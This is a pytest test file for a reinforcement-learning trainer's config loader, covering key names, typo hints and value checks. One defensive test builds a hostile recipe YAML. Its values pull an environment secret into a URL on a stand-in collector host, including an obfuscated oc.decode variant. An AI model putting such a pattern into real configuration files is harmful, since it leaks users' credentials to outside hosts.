"""Loading the trainer config: SkyRL key names, YAML defaults, typo suggestions, validation before loading."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from skygym_train.config import AlgorithmConfig, ConfigError, SkyRLTrainConfig, load_config, make_config, validate_config
from skygym_train.config.loader import DEFAULTS_YAML
from tests.tiny_models import CHAT_MODEL


@pytest.fixture
def data_file(tmp_path: Path) -> str:
    path = tmp_path / "train.jsonl"
    path.write_text('{"prompt": [{"role": "user", "content": "2 * 3"}], "env_class": "multiply"}\n')
    return str(path)


def _valid(data_file: str, *extra: str):
    return [f"data.train_data=[{data_file}]", f"trainer.policy.model.path={CHAT_MODEL}",
            "trainer.use_ray=false", *extra]


def test_skyrl_key_names_are_accepted(data_file):
    # GPU settings (four GPUs, two vLLM engines) are checked as on a GPU machine; test_machine_checks covers CPU
    cfg = load_config(
        _valid(
            data_file,
            "trainer.algorithm.advantage_estimator=rloo",
            "trainer.strategy=fsdp2",
            "trainer.placement.colocate_all=false",
            "trainer.placement.policy_num_gpus_per_node=4",
            "trainer.use_ray=true",
            "trainer.train_batch_size=16",
            "trainer.policy_mini_batch_size=8",
            "trainer.micro_train_batch_size_per_gpu=2",
            "trainer.micro_forward_batch_size_per_gpu=4",
            "trainer.epochs=3",
            "trainer.eval_batch_size=32",
            "trainer.eval_before_train=false",
            "trainer.eval_interval=5",
            "trainer.ckpt_interval=10",
            "trainer.logger=console,jsonl",
            "trainer.project_name=p",
            "trainer.run_name=r",
            "generator.backend=vllm",
            "generator.num_inference_engines=1",
            "generator.inference_engine_tensor_parallel_size=2",
            "generator.weight_sync_backend=inprocess",
            "generator.n_samples_per_prompt=4",
            "generator.max_turns=3",
            "generator.sampling_params.temperature=0.7",
            "generator.sampling_params.max_generate_length=64",
            "environment.env_class=multiply",
            "environment.env_config.boxed_wrong_reward=0.1",
        ),
        validate=False,
    )
    validate_config(cfg, has_cuda=True)
    assert isinstance(cfg, SkyRLTrainConfig)
    assert cfg.trainer.algorithm.advantage_estimator == "rloo"
    assert cfg.trainer.placement.policy_num_gpus_per_node == 4
    assert cfg.generator.sampling_params.temperature == 0.7
    assert cfg.environment.env_config == {"boxed_wrong_reward": 0.1}
    assert cfg.trainer.epochs == 3 and cfg.trainer.eval_before_train is False


def test_yaml_defaults_match_the_dataclasses():
    yaml_keys = set(OmegaConf.to_container(OmegaConf.load(DEFAULTS_YAML)).keys())
    assert yaml_keys == {"data", "trainer", "generator", "environment"}
    from_yaml = OmegaConf.merge(OmegaConf.structured(SkyRLTrainConfig), OmegaConf.load(DEFAULTS_YAML))
    assert OmegaConf.to_container(from_yaml) == OmegaConf.to_container(OmegaConf.structured(SkyRLTrainConfig))


def test_typo_gets_a_close_match_suggestion():
    with pytest.raises(ConfigError, match="did you mean 'algorithm'"):
        load_config(["trainer.algoritm.advantage_estimator=rloo"])
    with pytest.raises(ConfigError, match="trainer.policy.optimizer_config.lr"):
        load_config(["trainer.lr=1e-5"])


@pytest.mark.parametrize("key, hint", [
    ("trainer.learning_rate", "did you mean trainer.policy.optimizer_config.lr or trainer.critic.optimizer_config.lr? "
                              "(learning_rate is transformers'/TRL's name)"),
    ("trainer.policy.optimizer_config.learning_rate", "did you mean 'lr'? (learning_rate is transformers'/TRL's name)"),
    ("trainer.num_train_epochs", "did you mean 'epochs'?"),
    ("trainer.max_steps", "did you mean 'max_training_steps'?"),
    ("generator.num_generations", "did you mean 'n_samples_per_prompt'?"),
])
def test_another_trainers_name_for_a_key_gets_this_configs_name(key, hint):
    """`learning_rate` (transformers, TRL) was only 'unknown key', no close spelling of it being near `lr`."""
    with pytest.raises(ConfigError) as info:
        load_config([f"{key}=1"], validate=False)
    assert info.value.problems[0].startswith(f"{key}: unknown key '{key.rsplit('.', 1)[-1]}'")
    assert info.value.problems[0].endswith(hint) or hint + " (" in info.value.problems[0], info.value.problems


def test_wrong_type_names_the_key():
    with pytest.raises(ConfigError, match="trainer.train_batch_size"):
        load_config(["trainer.train_batch_size=eight"])


@pytest.mark.parametrize("override, problem", [
    ("trainer.epochs=abc", "trainer.epochs=abc: expected an integer"),
    ("trainer.epochs=2.5", "trainer.epochs=2.5: expected an integer"),
    ("trainer.policy.optimizer_config.lr=fast", "trainer.policy.optimizer_config.lr=fast: expected a number"),
    ("trainer.algorithm.use_kl_loss=maybe", "trainer.algorithm.use_kl_loss=maybe: expected true or false"),
    # the brackets a shell eats, or never typed: the fix spelled out
    ("data.train_data=rows.jsonl",
     "data.train_data=rows.jsonl: expected a list, e.g. data.train_data=\"['rows.jsonl']\""),
    ("data.val_data={a: 1}", "data.val_data={'a': 1}: expected a list"),
    ("trainer.placement=3", "trainer.placement=3: 'trainer.placement' is a section, not a value; set its "
                            "keys, e.g. trainer.placement.colocate_all=..."),
    ("environment.env_config=3",
     "environment.env_config=3: expected a mapping: set its entries as environment.env_config.NAME=VALUE"),
])
def test_a_value_of_the_wrong_kind_names_the_key_the_value_and_what_the_key_takes(override, problem):
    """Each mistake is one line a user can act on, not OmegaConf's internals (``AnyNode is not a ListConfig``,
    ``Merge error``, a ``TypeError`` traceback)."""
    with pytest.raises(ConfigError) as raised:
        load_config([override], validate=False)
    assert len(raised.value.problems) == 1
    assert raised.value.problems[0].startswith(problem), raised.value.problems


def test_every_key_and_value_problem_is_named_with_the_other_checks_in_one_run(data_file):
    """A value of the wrong type stopped the loader at the first one, before the other checks: three runs to see
    three mistakes. Now one run names every unknown key and every value it cannot take, with the validation's
    problems (less those about a refused key, whose default stood in)."""
    with pytest.raises(ConfigError) as info:
        load_config(["data.train_data=x.jsonl", f"trainer.policy.model.path={CHAT_MODEL}",
                     "trainer.train_batch_size=10", "trainer.policy_mini_batch_size=4", "trainer.epochs=two",
                     "trainer.algoritm.advantage_estimator=grpo", "trainer.max_prompt_length=long", "nonsense"])
    assert info.value.problems == [
        "'nonsense': overrides are written key=value (e.g. trainer.epochs=2)",
        "trainer.algoritm.advantage_estimator: unknown key 'algoritm' in trainer; did you mean 'algorithm'?",
        "data.train_data=x.jsonl: expected a list, e.g. data.train_data=\"['x.jsonl']\" (quoted, so the shell keeps "
        "the brackets; in a config file, train_data: [x.jsonl])",
        "trainer.epochs=two: expected an integer",
        "trainer.max_prompt_length=long: expected an integer",
        "trainer.train_batch_size=10 is not a multiple of trainer.policy_mini_batch_size=4: set it to a divisor of 10, "
        "e.g. trainer.policy_mini_batch_size=2",
    ]  # not "data.train_data: no training files given" (its default, [], stood in for the refused value)


def test_every_bad_value_of_a_config_file_is_named(data_file, tmp_path):
    config_file = tmp_path / "run.yaml"
    config_file.write_text("trainer:\n  epochs: two\n  eval_interval: often\n  learning_rate: 1e-5\n"
                           f"data:\n  train_data: ['{data_file}']\n")
    with pytest.raises(ConfigError) as info:
        load_config([f"trainer.policy.model.path={CHAT_MODEL}", "trainer.use_ray=false"], config_file=config_file)
    problems = info.value.problems
    assert "trainer.epochs=two: expected an integer" in problems
    assert "trainer.eval_interval=often: expected an integer" in problems
    assert any(p.startswith("trainer.learning_rate: unknown key") for p in problems), problems
    assert len(problems) == 3, problems


def test_override_without_equals_is_rejected():
    with pytest.raises(ConfigError, match="key=value"):
        load_config(["trainer.epochs"])


def test_batch_sizes_that_do_not_divide_fail_before_loading(data_file):
    with pytest.raises(ConfigError) as info:
        load_config(_valid(data_file, "trainer.train_batch_size=10", "trainer.policy_mini_batch_size=4"))
    assert "trainer.train_batch_size=10 is not a multiple of trainer.policy_mini_batch_size=4" in str(info.value)
    with pytest.raises(ConfigError) as info:
        load_config(
            _valid(
                data_file,
                "trainer.train_batch_size=4",
                "trainer.policy_mini_batch_size=2",
                "generator.n_samples_per_prompt=4",
                "trainer.micro_train_batch_size_per_gpu=3",
            )
        )
    # the problem says what to set
    assert ("trainer.micro_train_batch_size_per_gpu=3 does not divide the 8 sequences each policy worker gets per "
            "optimizer step (trainer.policy_mini_batch_size * generator.n_samples_per_prompt / 1 worker): set it "
            "to a divisor of 8, e.g. trainer.micro_train_batch_size_per_gpu=2") in str(info.value)


def test_a_size_refused_as_unreadable_is_not_blamed_again_through_its_default(data_file):
    """`n_samples_per_prompt=four` is refused; its default, standing in, must not make a micro-batch problem
    about a number of sequences the user never gave."""
    with pytest.raises(ConfigError) as info:
        load_config(_valid(data_file, "generator.n_samples_per_prompt=four", "trainer.micro_train_batch_size_per_gpu=32"))
    assert info.value.problems == ["generator.n_samples_per_prompt=four: expected an integer"]


@pytest.mark.parametrize("override, problem", [
    ("trainer.policy.optimizer_config.lr=-1e-6",
     "trainer.policy.optimizer_config.lr=-1e-06: must be a positive number"),
    ("trainer.policy.optimizer_config.lr=nan", "trainer.policy.optimizer_config.lr=nan: must be a positive number"),
    ("trainer.policy.optimizer_config.lr=0",
     "trainer.policy.optimizer_config.lr=0.0: must be a positive number (0 trains nothing"),
    ("trainer.policy.optimizer_config.max_grad_norm=0",
     "trainer.policy.optimizer_config.max_grad_norm=0.0: must be a positive number (gradients are clipped"),
    ("trainer.policy.optimizer_config.weight_decay=-0.1",
     "trainer.policy.optimizer_config.weight_decay=-0.1: must be >= 0"),
    ("trainer.policy.optimizer_config.num_warmup_steps=-2",
     "trainer.policy.optimizer_config.num_warmup_steps=-2: must be >= 0"),
    ("trainer.max_training_steps=0", "trainer.max_training_steps=0: use a positive number of steps, or null"),
])
def test_settings_that_would_train_silently_wrong_are_refused(data_file, override, problem):
    """A negative learning rate ascends the loss; a clipping norm of 0 zeroes every gradient;
    max_training_steps=0 read as no limit and trained a whole run. Each is refused, naming its key."""
    with pytest.raises(ConfigError) as info:
        load_config(_valid(data_file, override))
    assert any(p.startswith(problem) for p in info.value.problems), info.value.problems


def test_the_critic_optimizer_is_checked_only_when_there_is_a_critic(data_file):
    load_config(_valid(data_file, "trainer.critic.optimizer_config.lr=-1"))  # grpo: no critic trains
    with pytest.raises(ConfigError, match=r"trainer.critic.optimizer_config.lr=-1.0: must be a positive number"):
        load_config(_valid(data_file, "trainer.critic.optimizer_config.lr=-1",
                           "trainer.algorithm.advantage_estimator=gae"))


def test_token_budget_must_be_positive_or_off(data_file):
    with pytest.raises(ConfigError, match="trainer.max_tokens_per_microbatch=0: must be -1"):
        load_config(_valid(data_file, "trainer.max_tokens_per_microbatch=0"))
    assert load_config(_valid(data_file, "trainer.max_tokens_per_microbatch=4096")).trainer.max_tokens_per_microbatch == 4096


def test_many_problems_reported_together(tmp_path):
    with pytest.raises(ConfigError) as info:
        load_config(
            [
                f"data.train_data=[{tmp_path / 'missing.jsonl'}]",
                "trainer.algorithm.advantage_estimator=grpo",
                "generator.n_samples_per_prompt=1",
                "trainer.algorithm.policy_loss_type=ppo",
                "generator.backend=tgi",
                "trainer.logger=mlflow",
            ]
        )
    problems = "\n".join(info.value.problems)
    for needle in ("trainer.policy.model.path", "missing.jsonl", "at least 2", "policy_loss_type='ppo'", "generator.backend", "mlflow"):
        assert needle in problems


def test_worker_count_checked_against_batch(data_file):
    cfg = load_config(_valid(data_file, "trainer.train_batch_size=3", "trainer.policy_mini_batch_size=3", "generator.n_samples_per_prompt=3",
                             "trainer.micro_train_batch_size_per_gpu=1"), validate=False)
    cfg.trainer.use_ray = True
    cfg.trainer.num_cpu_workers = 2
    with pytest.raises(ConfigError, match="cannot be split evenly over 2 policy workers"):
        validate_config(cfg, has_cuda=False)


def test_async_needs_separate_resources(data_file):
    with pytest.raises(ConfigError, match="own resources: set trainer.placement.colocate_all=false"):
        load_config(_valid(data_file, "trainer.async_training.enabled=true", "trainer.placement.colocate_all=true"))
    cfg = load_config(_valid(data_file, "trainer.async_training.enabled=true", "trainer.placement.colocate_all=false",
                             "trainer.train_batch_size=4", "trainer.policy_mini_batch_size=4"))
    assert cfg.trainer.async_training.max_staleness_steps == 1


def test_dict_overrides_and_config_file(tmp_path, data_file):
    user = tmp_path / "user.yaml"
    user.write_text("trainer:\n  epochs: 7\n  algorithm:\n    eps_clip_high: 0.28\n")
    cfg = load_config({"data.train_data": [data_file], "trainer": {"policy": {"model": {"path": "x"}}}, "trainer.use_ray": False},
                      config_file=user)
    assert cfg.trainer.epochs == 7 and cfg.trainer.algorithm.eps_clip_high == 0.28
    with pytest.raises(ConfigError, match="epoch"):
        user.write_text("trainer:\n  epoch: 7\n")
        load_config([], config_file=user, validate=False)


def test_a_config_file_reads_no_secret_from_the_environment(tmp_path, monkeypatch):
    """A recipe's ``${oc.env:NAME}`` put the variable's value into any key: a downloaded config could send HF_TOKEN
    to the URL it names. A file reads only HOME and its kind, and what SKYRL_GYM_CONFIG_ENV lists; no other
    resolver (oc.decode assembled an environment read from pieces); the person's own overrides read any."""
    from skygym_train.config.loader import read_config

    monkeypatch.setenv("FAKE_SECRET", "s3cr3t")
    monkeypatch.delenv("SKYRL_GYM_CONFIG_ENV", raising=False)
    recipe = tmp_path / "recipe.yaml"
    recipe.write_text(
        "trainer:\n"
        "  run_name: leak-${oc.env:FAKE_SECRET}\n"
        "  project_name: '${oc.env:\"FAKE_SECRET\"}'\n"  # a quoted name
        "  ckpt_path: ${oc.env:HOME}/ckpts\n"
        "  log_path: ${oc.decode:\"\\${${trainer.export_path}nv:FAKE_SECRET}\"}\n"
        "  export_path: oc.e\n"
        "environment:\n"
        "  env_config:\n"
        "    search_url: http://collector.invalid/?k=${oc.env:HOME,${oc.env:FAKE_SECRET}}\n")
    cfg, problems = read_config(["trainer.hf_save_interval=${oc.env:FAKE_SECRET_STEPS,3}"], config_file=recipe,
                                validate=False)
    assert "s3cr3t" not in str(OmegaConf.structured(cfg))  # never resolved: each refused key keeps its default
    assert cfg.trainer.run_name == "test_run" and cfg.environment.env_config == {}
    assert cfg.trainer.ckpt_path == f"{Path.home()}/ckpts" and cfg.trainer.hf_save_interval == 3
    by_key = {problem.split(":", 1)[0]: problem for problem in problems}
    assert sorted(by_key) == ["environment.env_config.search_url", "trainer.log_path", "trainer.project_name",
                              "trainer.run_name"], problems
    assert by_key["trainer.run_name"].startswith(
        f"trainer.run_name: config file {recipe} reads the environment variable FAKE_SECRET "
        "('leak-${oc.env:FAKE_SECRET}'); a config file may read only HOME, USER, LOGNAME, PWD, TMPDIR and the "
        "variables listed in SKYRL_GYM_CONFIG_ENV where it runs")
    assert by_key["trainer.run_name"].endswith("SKYRL_GYM_CONFIG_ENV=FAKE_SECRET allows this one")
    assert "whose name is not written out" in by_key["trainer.project_name"]
    assert "calls the resolver oc.decode" in by_key["trainer.log_path"]
    assert "reads the environment variable FAKE_SECRET" in by_key["environment.env_config.search_url"]
    with pytest.raises(ConfigError, match="reads the environment variable FAKE_SECRET"):
        load_config([], config_file=recipe, validate=False)
    # the person running it allows the variable: the file reads it
    monkeypatch.setenv("SKYRL_GYM_CONFIG_ENV", "OTHER, FAKE_SECRET")
    cfg, problems = read_config([], config_file=recipe, validate=False)
    assert cfg.trainer.run_name == "leak-s3cr3t"
    assert cfg.environment.env_config["search_url"] == f"http://collector.invalid/?k={Path.home()}"
    assert sorted(p.split(":", 1)[0] for p in problems) == ["trainer.log_path", "trainer.project_name"]


def test_user_algorithm_section_adds_keys(data_file):
    @dataclass
    class DAPOAlgorithmConfig(AlgorithmConfig):
        overlong_buffer_len: int = 512
        overlong_buffer_penalty_factor: float = 1.0

    DAPOConfig = make_config(algorithm_cls=DAPOAlgorithmConfig)
    cfg = load_config(_valid(data_file, "trainer.algorithm.overlong_buffer_len=4"), schema=DAPOConfig)
    assert cfg.trainer.algorithm.overlong_buffer_len == 4
    assert cfg.trainer.algorithm.eps_clip_high == 0.2
    with pytest.raises(ConfigError, match="overlong_buffer_len"):
        load_config(_valid(data_file, "trainer.algorithm.overlong_buffer_len=4"))


def test_newer_skyrl_engine_key_spelling_is_an_alias():
    cfg = load_config(["generator.inference_engine.backend=vllm", "generator.inference_engine.num_engines=4"], validate=False)
    assert cfg.generator.backend == "vllm" and cfg.generator.num_inference_engines == 4


def test_example_gsm8k_script_uses_only_known_keys():
    import re
    import shlex

    script = (Path(__file__).resolve().parents[3] / "examples" / "gsm8k" / "run_gsm8k.sh").read_text()
    command = script[script.index("python -m skygym_train.entrypoints.main_base") :]
    command = re.sub(r"\$\{?(\w+)\}?", "1", command.replace("\\\n", " "))
    overrides = [a for a in shlex.split(command)[3:] if "=" in a]
    assert len(overrides) > 30
    cfg = load_config(overrides, validate=False)
    assert cfg.trainer.train_batch_size == 1024 and cfg.generator.n_samples_per_prompt == 5


def test_loggers_given_as_a_list_or_joined_by_commas(data_file):
    from skygym_train.config.validation import loggers_of

    as_list = load_config(_valid(data_file, "trainer.logger=[console,jsonl]"), validate=False)
    joined = load_config(_valid(data_file, "trainer.logger='console, jsonl'"), validate=False)
    assert loggers_of(as_list) == loggers_of(joined) == ["console", "jsonl"]
    with pytest.raises(ConfigError, match="unknown logger 'mlflow'"):
        load_config(_valid(data_file, "trainer.logger=[console,mlflow]"))


def test_a_critic_mini_batch_larger_than_a_small_batch_says_what_to_set(data_file):
    with pytest.raises(ConfigError) as info:
        load_config(_valid(data_file, "trainer.algorithm.advantage_estimator=gae", "trainer.train_batch_size=4",
                           "trainer.policy_mini_batch_size=4"))
    assert ("trainer.train_batch_size=4 is not a multiple of trainer.critic_mini_batch_size=256: set it to a "
            "divisor of 4, e.g. trainer.critic_mini_batch_size=4") in info.value.problems
